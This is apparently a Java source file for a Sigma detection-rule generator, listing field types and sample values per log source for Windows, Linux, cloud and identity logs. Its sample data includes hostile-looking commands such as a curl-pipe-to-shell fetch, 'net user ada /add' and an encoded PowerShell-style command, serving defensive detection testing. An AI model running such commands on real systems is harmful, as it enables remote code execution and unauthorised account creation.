package dev.seriema.catalog.sigma;

import java.util.Arrays;
import java.util.List;
import java.util.Map;

/// A field of Sigma and what it may hold in generated rules and events.
record SigmaField(String name, Kind kind) {
  enum Kind {
    PATH(
        "C:\\Windows\\System32\\tool.exe",
        "C:\\Users\\ada\\AppData\\run.dll",
        "\\\\host\\share\\a b.ps1",
        "C:\\Temp\\x*y.tmp",
        "D:\\odd?name.bin"),
    UNIX_PATH("/usr/bin/curl", "/tmp/.hidden/x", "/etc/cron.d/job", "/opt/App (x)/run"),
    COMMAND(
        "tool.exe -enc aGVsbG8= /quiet",
        "net user ada /add",
        "sh -c 'curl http://h/x | sh'",
        "cmd /c \"del %TEMP%\\*.log\"",
        "run --flag=1 -o out.txt"),
    TEXT("Example Tool", "Contoso Ltd.", "tool.exe", "Größe", "a+b (c) [d] {e}"),
    WORD("ConsoleLogin", "iam.example.com", "user.session.start", "Add member to role", "High"),
    ACCOUNT("NT AUTHORITY\\SYSTEM", "CORP\\ada", "CORP\\svc-sql", "host1\\bob"),
    NUMBER("22", "443", "3389", "4444", "65535"),
    CODE("4624", "4625", "7045", "1102"),
    ADDRESS("10.1.2.3", "192.168.7.9", "172.16.0.1", "8.8.8.8"),
    TRUTH("true", "false"),
    HASHES(
        "MD5=" + "0A".repeat(16) + ",SHA256=" + "1B".repeat(32),
        "SHA1=" + "2c".repeat(20),
        "IMPHASH=" + "3D".repeat(16)),
    REGISTRY(
        "HKLM\\SOFTWARE\\Run\\Updater",
        "HKU\\S-1-5-21\\Environment\\x",
        "HKLM\\System\\CurrentControlSet\\Services\\svc"),
    DATA("DWORD (0x00000001)", "DWORD (0x00000000)", "C:\\Temp\\a.exe", "(Empty)"),
    NAME("evil.example.com", "cdn.example.net", "a.b.c.example.org"),
    DATE(
        "2026-01-01T00:30:00Z",
        "2027-01-01T10:05:00Z",
        "2024-12-30T22:15:00Z",
        "2026-11-26T22:59:59Z",
        "2026-02-09T07:00:00Z");

    @SuppressWarnings("ImmutableEnumChecker") // made by List.of
    private final List<String> samples;

    Kind(String... samples) {
      this.samples = List.of(samples);
    }

    List<String> samples() {
      return samples;
    }

    boolean isText() {
      return switch (this) {
        case PATH, UNIX_PATH, COMMAND, TEXT, WORD, REGISTRY, NAME -> true;
        case ACCOUNT, NUMBER, CODE, ADDRESS, TRUTH, HASHES, DATA, DATE -> false;
      };
    }
  }

  private static final List<SigmaField> PROCESS =
      List.of(
          new SigmaField("Image", Kind.PATH),
          new SigmaField("CommandLine", Kind.COMMAND),
          new SigmaField("ParentImage", Kind.PATH),
          new SigmaField("ParentCommandLine", Kind.COMMAND),
          new SigmaField("OriginalFileName", Kind.TEXT),
          new SigmaField("Description", Kind.TEXT),
          new SigmaField("User", Kind.ACCOUNT),
          new SigmaField("Hashes", Kind.HASHES),
          new SigmaField("IntegrityLevel", Kind.WORD),
          new SigmaField("ProcessId", Kind.NUMBER));

  private static final List<SigmaField> UNIX_PROCESS =
      List.of(
          new SigmaField("Image", Kind.UNIX_PATH),
          new SigmaField("CommandLine", Kind.COMMAND),
          new SigmaField("ParentImage", Kind.UNIX_PATH),
          new SigmaField("CurrentDirectory", Kind.UNIX_PATH),
          new SigmaField("User", Kind.WORD));

  private static final List<SigmaField> CONNECTION =
      List.of(
          new SigmaField("Image", Kind.PATH),
          new SigmaField("DestinationIp", Kind.ADDRESS),
          new SigmaField("SourceIp", Kind.ADDRESS),
          new SigmaField("DestinationPort", Kind.NUMBER),
          new SigmaField("DestinationHostname", Kind.NAME),
          new SigmaField("Initiated", Kind.TRUTH));

  private static final List<SigmaField> REGISTRY_SET =
      List.of(
          new SigmaField("TargetObject", Kind.REGISTRY),
          new SigmaField("Details", Kind.DATA),
          new SigmaField("Image", Kind.PATH));

  private static final List<SigmaField> FILE =
      List.of(
          new SigmaField("TargetFilename", Kind.PATH),
          new SigmaField("Image", Kind.PATH),
          new SigmaField("User", Kind.ACCOUNT));

  private static final List<SigmaField> LIBRARY =
      List.of(
          new SigmaField("ImageLoaded", Kind.PATH),
          new SigmaField("Image", Kind.PATH),
          new SigmaField("Signature", Kind.TEXT),
          new SigmaField("Hashes", Kind.HASHES));

  private static final List<SigmaField> SECURITY =
      List.of(
          new SigmaField("EventID", Kind.CODE),
          new SigmaField("TargetUserName", Kind.TEXT),
          new SigmaField("LogonType", Kind.NUMBER),
          new SigmaField("IpAddress", Kind.ADDRESS),
          new SigmaField("ServiceName", Kind.TEXT),
          new SigmaField("ObjectName", Kind.PATH));

  private static List<SigmaField> words(String... names) {
    return Arrays.stream(names).map(name -> new SigmaField(name, Kind.WORD)).toList();
  }

  /// Fields by the lines of a log source.
  static final Map<String, List<SigmaField>> BY_SOURCE =
      Map.ofEntries(
          Map.entry("product: windows, category: process_creation", PROCESS),
          Map.entry("product: windows, category: network_connection", CONNECTION),
          Map.entry("product: windows, category: registry_set", REGISTRY_SET),
          Map.entry("product: windows, category: registry_event", REGISTRY_SET),
          Map.entry("product: windows, category: file_event", FILE),
          Map.entry("product: windows, category: file_delete", FILE),
          Map.entry("product: windows, category: image_load", LIBRARY),
          Map.entry("product: windows, category: driver_load", LIBRARY),
          Map.entry(
              "product: windows, category: process_access",
              List.of(
                  new SigmaField("SourceImage", Kind.PATH),
                  new SigmaField("TargetImage", Kind.PATH),
                  new SigmaField("GrantedAccess", Kind.TEXT),
                  new SigmaField("CallTrace", Kind.COMMAND))),
          Map.entry(
              "product: windows, category: create_remote_thread",
              List.of(
                  new SigmaField("SourceImage", Kind.PATH),
                  new SigmaField("TargetImage", Kind.PATH),
                  new SigmaField("StartModule", Kind.PATH))),
          Map.entry(
              "product: windows, category: pipe_created",
              List.of(new SigmaField("PipeName", Kind.PATH), new SigmaField("Image", Kind.PATH))),
          Map.entry(
              "product: windows, category: dns_query",
              List.of(new SigmaField("QueryName", Kind.NAME), new SigmaField("Image", Kind.PATH))),
          Map.entry("product: windows, service: security", SECURITY),
          Map.entry(
              "product: windows, service: system",
              List.of(
                  new SigmaField("EventID", Kind.CODE),
                  new SigmaField("Provider_Name", Kind.TEXT),
                  new SigmaField("ServiceName", Kind.TEXT),
                  new SigmaField("ImagePath", Kind.PATH))),
          Map.entry(
              "product: windows, service: windefend",
              List.of(new SigmaField("EventID", Kind.CODE), new SigmaField("Path", Kind.PATH))),
          Map.entry("product: linux, category: process_creation", UNIX_PROCESS),
          Map.entry("product: macos, category: process_creation", UNIX_PROCESS),
          Map.entry(
              "product: linux, category: file_event",
              List.of(
                  new SigmaField("TargetFilename", Kind.UNIX_PATH),
                  new SigmaField("Image", Kind.UNIX_PATH))),
          Map.entry(
              "product: linux, service: auditd",
              List.of(
                  new SigmaField("type", Kind.WORD),
                  new SigmaField("a0", Kind.COMMAND),
                  new SigmaField("exe", Kind.UNIX_PATH),
                  new SigmaField("name", Kind.UNIX_PATH))),
          Map.entry(
              "product: aws, service: cloudtrail",
              words(
                  "eventName",
                  "eventSource",
                  "errorCode",
                  "userIdentity.type",
                  "requestParameters.roleName",
                  "userAgent")),
          Map.entry(
              "product: azure, service: activitylogs",
              words("operationName", "ResourceGroup", "CategoryValue")),
          Map.entry(
              "product: azure, service: signinlogs",
              words("AppDisplayName", "ClientAppUsed", "RiskState", "UserPrincipalName")),
          Map.entry(
              "product: azure, service: auditlogs",
              words("OperationName", "Category", "LoggedByService")),
          Map.entry(
              "product: okta, service: okta",
              words("eventType", "outcome.result", "actor.alternateId", "target.displayName")),
          Map.entry("product: github, service: audit", words("action", "actor", "repo", "org")));
}
